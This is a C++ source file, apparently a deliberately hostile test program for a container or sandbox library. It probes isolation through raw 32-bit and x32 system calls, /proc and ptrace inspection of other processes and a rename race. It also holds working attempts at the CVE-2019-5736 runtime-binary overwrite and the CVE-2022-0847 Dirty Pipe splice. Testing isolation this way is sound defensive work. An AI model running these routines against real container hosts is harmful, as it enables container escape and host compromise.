// SPDX-License-Identifier: Apache-2.0
// A hostile program for the tests of this library: a static one that needs nothing of a root.
//   attack fds                    the numbers of its open descriptors, without opening a directory
//   attack call 64|32|x32 N ARG…  a raw system call's result; "@text" is a string's address,
//                                 "%1,2" that of an array, "$DIR" a descriptor of a directory
//   attack exchange A B           "ready", then exchanges two names until it is killed
//   attack inspect PID            what it gets of another process
//   attack watch                  "ready", then looks at each process that comes, before its execve
//   attack overwrite              "ready", then writes to every foreign program that runs here
//   attack splice                 the same through pages of the program in a pipe
#include <array>
#include <cerrno>
#include <csignal>
#include <cstdint>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <string>
#include <vector>

#include <dirent.h>
#include <fcntl.h>
#include <sys/mman.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

namespace {

constexpr long x32_bit = 0x40000000;
constexpr int descriptors_that_are_tried = 4096;

void say(const std::string& line) {
    std::string text = line + "\n";
    [[maybe_unused]] ssize_t written = ::write(1, text.data(), text.size());
}

int list_descriptors() {
    std::string line;
    for (int fd = 0; fd < descriptors_that_are_tried; ++fd) {
        if (::fcntl(fd, F_GETFD) >= 0) {
            line += (line.empty() ? "" : " ") + std::to_string(fd);
        }
    }
    say(line);
    return 0;
}

// An address that a 32 bit call can name.
void* low_memory() {
    static char* next = static_cast<char*>(::mmap(
        nullptr, 1U << 16, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0));
    void* block = next;
    next += 4096;
    return block;
}

long argument_of(const std::string& word) {
    if (word.starts_with('@')) {
        void* text = low_memory();
        std::memcpy(text, word.c_str() + 1, word.size());
        return reinterpret_cast<long>(text);
    }
    if (word.starts_with('%')) {
        auto* numbers = static_cast<std::uint32_t*>(low_memory());
        std::size_t size = 0;
        for (const char* rest = word.c_str(); *rest != '\0';) {
            char* end = nullptr;
            numbers[size++] = static_cast<std::uint32_t>(std::strtoul(rest + 1, &end, 0));
            rest = end;
        }
        return reinterpret_cast<long>(numbers);
    }
    if (word.starts_with('$')) {
        return ::open(word.c_str() + 1, O_PATH | O_DIRECTORY | O_CLOEXEC);
    }
    return static_cast<long>(std::strtoull(word.c_str(), nullptr, 0));
}

long call_32([[maybe_unused]] long number, [[maybe_unused]] const std::array<long, 6>& arguments) {
#if defined(__x86_64__)
    long result = number;
    asm volatile("int $0x80"
                 : "+a"(result)
                 : "b"(arguments[0]),
                   "c"(arguments[1]),
                   "d"(arguments[2]),
                   "S"(arguments[3]),
                   "D"(arguments[4])
                 : "memory", "r8", "r9", "r10", "r11");
    return static_cast<std::int32_t>(result);
#else
    return -ENOSYS;
#endif
}

int make_call(const std::vector<std::string>& words) {
    std::array<long, 6> values{};
    for (std::size_t i = 2; i < words.size() && i < 2 + values.size(); ++i) {
        values[i - 2] = argument_of(words[i]);
    }
    long number = std::strtol(words[1].c_str(), nullptr, 0);
    long result = 0;
    const pid_t self = ::getpid();
    if (words[0] == "32") {
        result = call_32(number, values);
    } else {
        number += words[0] == "x32" ? x32_bit : 0;
        result =
            ::syscall(number, values[0], values[1], values[2], values[3], values[4], values[5]);
        result = result < 0 ? -errno : result;
    }
    if (::getpid() != self && result == 0) {
        ::_exit(0); // it was a clone that worked
    }
    say(std::to_string(result));
    return 0;
}

[[noreturn]] void exchange(const std::string& a, const std::string& b) {
    say("ready");
    while (true) {
        ::renameat2(AT_FDCWD, a.c_str(), AT_FDCWD, b.c_str(), RENAME_EXCHANGE);
    }
}

// Beyond the standard streams. Their numbers are no secret from root; what they are is.
bool gives_descriptors(const std::string& process) {
    bool given = false;
    for (int fd = 3; fd < 64; ++fd) {
        int opened = ::open((process + "/fd/" + std::to_string(fd)).c_str(), O_PATH | O_CLOEXEC);
        if (opened >= 0) {
            given = true;
            ::close(opened);
        }
    }
    return given;
}

int inspect(const std::string& pid) {
    const std::string process = "/proc/" + pid;
    auto try_open = [&](const std::string& file, int flags) {
        int fd = ::open((process + "/" + file).c_str(), flags);
        if (fd >= 0) {
            say("opened " + file);
            ::close(fd);
        }
    };
    try_open("mem", O_RDONLY);
    try_open("mem", O_RDWR);
    try_open("environ", O_RDONLY);
    try_open("exe", O_RDONLY);
    try_open("root", O_RDONLY);
    try_open("cwd", O_RDONLY);
    try_open("ns/mnt", O_RDONLY);
    for (int fd = 0; fd < 64; ++fd) {
        try_open("fd/" + std::to_string(fd), O_PATH);
    }
    if (::ptrace(PTRACE_SEIZE, std::atoi(pid.c_str()), nullptr, nullptr) == 0) {
        say("traces");
    }
    say("end");
    return 0;
}

std::string link_of(const std::string& path) {
    std::array<char, 512> target{};
    ssize_t size = ::readlink(path.c_str(), target.data(), target.size());
    return size > 0 ? std::string(target.data(), static_cast<std::size_t>(size)) : std::string();
}

template <class Look>
[[noreturn]] void look_at_all_processes(Look look) {
    say("ready");
    const std::string self = std::to_string(::getpid());
    while (true) {
        DIR* directory = ::opendir("/proc");
        while (const dirent* entry = ::readdir(directory)) {
            if (entry->d_name[0] >= '1' && entry->d_name[0] <= '9' && self != entry->d_name) {
                look("/proc/" + std::string(entry->d_name));
            }
        }
        ::closedir(directory);
    }
}

[[noreturn]] void watch() {
    look_at_all_processes([](const std::string& process) {
        const std::string program = link_of(process + "/exe");
        if (program.starts_with("/bin/")) {
            return; // it runs the container's own program by now
        }
        if (!program.empty()) {
            say("program " + program);
        }
        if (gives_descriptors(process)) {
            say("descriptors of " + process);
        }
    });
}

// CVE-2019-5736: a descriptor of the runtime's program that is read only is opened again for
// writing as soon as nobody executes the program.
[[noreturn]] void overwrite() {
    look_at_all_processes([](const std::string& process) {
        int fd = ::open((process + "/exe").c_str(), O_RDONLY | O_CLOEXEC);
        if (fd < 0) {
            return;
        }
        if (link_of(process + "/exe").starts_with("/bin/")) {
            ::close(fd);
            return;
        }
        say("found");
        const std::string again = "/proc/self/fd/" + std::to_string(fd);
        constexpr int attempts = 20000; // for as long as the program lives, and longer
        for (int i = 0; i < attempts; ++i) {
            int writer = ::open(again.c_str(), O_WRONLY | O_CLOEXEC);
            if (writer >= 0) {
                say(::write(writer, "#!/bin/attack\n", 14) == 14 ? "overwrote" : "not written");
                ::close(writer);
                break;
            }
            if (errno != ETXTBSY && errno != EROFS && errno != EPERM && errno != EACCES) {
                break;
            }
        }
        ::close(fd);
        say("tried");
    });
}

// CVE-2022-0847: a page of a file that is in a pipe was written to in place where the pipe's buffer
// had been one that may grow.
bool splice_over(int file) {
    std::array<int, 2> pipe{};
    if (::pipe2(pipe.data(), O_NONBLOCK | O_CLOEXEC) < 0) {
        return false;
    }
    std::array<char, 4096> block{};
    while (::write(pipe[1], block.data(), block.size()) > 0) {
    }
    while (::read(pipe[0], block.data(), block.size()) > 0) {
    }
    off64_t first = 0;
    const bool done = ::splice(file, &first, pipe[1], nullptr, 1, 0) == 1 &&
                      ::write(pipe[1], "#!/bin/attack\n", 14) == 14;
    ::close(pipe[0]);
    ::close(pipe[1]);
    return done;
}

[[noreturn]] void splice_over_programs() {
    look_at_all_processes([](const std::string& process) {
        int fd = ::open((process + "/exe").c_str(), O_RDONLY | O_CLOEXEC);
        if (fd >= 0 && !link_of(process + "/exe").starts_with("/bin/") && splice_over(fd)) {
            say("spliced");
        }
        if (fd >= 0) {
            ::close(fd);
        }
    });
}

} // namespace

int main(int count, char** values) {
    const std::vector<std::string> words(values + 1, values + count);
    const std::string what = words.empty() ? "" : words[0];
    if (what == "fds") {
        return list_descriptors();
    }
    if (what == "call" && words.size() >= 3) {
        return make_call({words.begin() + 1, words.end()});
    }
    if (what == "exchange" && words.size() == 3) {
        exchange(words[1], words[2]);
    }
    if (what == "inspect" && words.size() == 2) {
        return inspect(words[1]);
    }
    if (what == "watch") {
        watch();
    }
    if (what == "overwrite") {
        overwrite();
    }
    if (what == "splice") {
        splice_over_programs();
    }
    say("usage: see the source");
    return 2;
}
